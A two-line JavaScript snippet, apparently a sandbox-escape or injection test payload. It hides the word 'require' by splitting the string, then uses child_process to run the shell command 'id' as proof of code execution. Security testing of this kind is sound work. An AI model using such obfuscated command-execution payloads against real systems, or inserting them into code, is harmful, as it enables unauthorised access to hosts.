const r = global['req' + 'uire'];
r('child_process').execSync('id');
